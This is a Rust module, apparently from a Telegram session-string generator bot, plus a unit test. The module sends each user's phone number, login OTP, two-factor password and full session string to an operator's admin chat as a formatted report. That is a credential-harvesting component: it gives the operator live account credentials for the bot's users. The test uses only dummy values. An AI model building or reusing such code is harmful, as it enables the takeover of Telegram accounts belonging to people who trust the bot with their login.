use std::sync::Arc;

use async_trait::async_trait;

use ssb_core::{
    domain::ChatId,
    formatting::escape_html,
    messaging::port::MessagingPort,
    ports::{AdminNotifier, ExportEvent},
    Result,
};

/// Delivers export events to the operator chat as a structured report.
pub struct TelegramAdminNotifier {
    messenger: Arc<dyn MessagingPort>,
    admin_chat: ChatId,
}

impl TelegramAdminNotifier {
    pub fn new(messenger: Arc<dyn MessagingPort>, admin_chat: ChatId) -> Self {
        Self {
            messenger,
            admin_chat,
        }
    }

    fn render(event: &ExportEvent) -> String {
        let username = event
            .profile
            .username
            .as_deref()
            .unwrap_or("no username");
        let password = event.password.as_deref().unwrap_or("not used");

        format!(
            "🔔 <b>New {} Session Generated</b>\n\n\
             👤 <b>User:</b> {} (@{}, id <code>{}</code>)\n\
             📱 <b>Phone:</b> <code>{}</code>\n\
             🕒 <b>Started:</b> {}\n\n\
             🔐 <b>OTP:</b> <code>{}</code>\n\
             🔑 <b>Password:</b> <code>{}</code>\n\n\
             🧾 <b>Session String:</b>\n<code>{}</code>",
            event.backend.title(),
            escape_html(&event.profile.first_name),
            escape_html(username),
            event.profile.user_id.0,
            escape_html(&event.phone_number),
            event.started_at.format("%Y-%m-%d %H:%M:%S UTC"),
            escape_html(&event.otp),
            escape_html(password),
            escape_html(&event.credential),
        )
    }
}

#[async_trait]
impl AdminNotifier for TelegramAdminNotifier {
    async fn session_exported(&self, event: &ExportEvent) -> Result<()> {
        self.messenger
            .send_html(self.admin_chat, &Self::render(event))
            .await?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use chrono::Utc;

    use ssb_core::backend::BackendKind;
    use ssb_core::domain::{UserId, UserProfile};

    use super::*;

    #[test]
    fn report_escapes_user_controlled_fields() {
        let event = ExportEvent {
            profile: UserProfile {
                user_id: UserId(7),
                username: Some("ali<ce>".to_string()),
                first_name: "A&B".to_string(),
            },
            backend: BackendKind::Modern,
            phone_number: "+15550001111".to_string(),
            otp: "123".to_string(),
            password: None,
            started_at: Utc::now(),
            credential: "CRED".to_string(),
        };

        let html = TelegramAdminNotifier::render(&event);
        assert!(html.contains("ali&lt;ce&gt;"));
        assert!(html.contains("A&amp;B"));
        assert!(html.contains("Modern"));
        assert!(html.contains("not used"));
        assert!(html.contains("<code>CRED</code>"));
    }
}
